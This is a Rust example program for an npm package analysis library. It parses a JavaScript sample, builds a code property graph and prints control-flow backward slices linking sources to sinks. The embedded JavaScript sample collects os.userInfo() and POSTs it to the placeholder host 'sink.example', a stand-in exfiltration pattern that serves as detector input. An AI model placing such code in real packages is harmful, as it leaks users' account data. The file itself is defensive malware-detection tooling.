//! Control-flow backward slicing: for every sink, walk the reverse
//! control-flow graph and keep the region only if it also contains a
//! source.  Pure control-flow reachability — no data-flow reasoning —
//! so it over-approximates, trading precision for recall.
//!
//!     cargo run --example static_slicing

use npm_slice::cpg::{assemble_cpg, build_cfg, build_dfg, parse_file};
use npm_slice::ingest::PackageRef;
use npm_slice::{builtin_catalog, static_slice, SliceBudget};

const SRC: &str = r#"const os = require('os');
const https = require('https');

function collect() {
  const info = os.userInfo();
  return JSON.stringify(info);
}

function ship(body) {
  const req = https.request('https://sink.example', { method: 'POST' });
  req.write(body);
  req.end();
}

const snapshot = collect();
ship(snapshot);

function unrelated() {
  console.log('nothing sensitive here');
}
unrelated();
"#;

fn main() {
    let mut fg = parse_file("index.js", SRC);
    build_cfg(&mut fg);
    build_dfg(&mut fg);
    let cpg = assemble_cpg(PackageRef::from_path("demo-pkg"), vec![fg]);

    let catalog = builtin_catalog();
    let run = static_slice(&cpg, &catalog, &SliceBudget::unlimited());

    println!("{} slice(s), budget exhausted: {}", run.slices.len(), run.budget_exhausted);
    for s in &run.slices {
        println!("\n== {} ==", s.slice_ref());
        if let Some(a) = &s.source_anchor {
            println!("  source: {}:{} ({})", a.file, a.line, a.callee.as_deref().unwrap_or("?"));
        }
        if let Some(a) = &s.sink_anchor {
            println!("  sink:   {}:{} ({})", a.file, a.line, a.callee.as_deref().unwrap_or("?"));
        }
        for (file, lines) in &s.lines {
            println!("  lines in {file}: {lines:?}");
        }
        println!("  snippet:");
        for line in s.snippet.lines() {
            println!("    | {line}");
        }
    }

    let total: usize = run.slices.iter().map(|s| s.loc()).sum();
    let original = SRC.lines().count();
    println!("\nkept {total} of {original} lines across all slices");
}
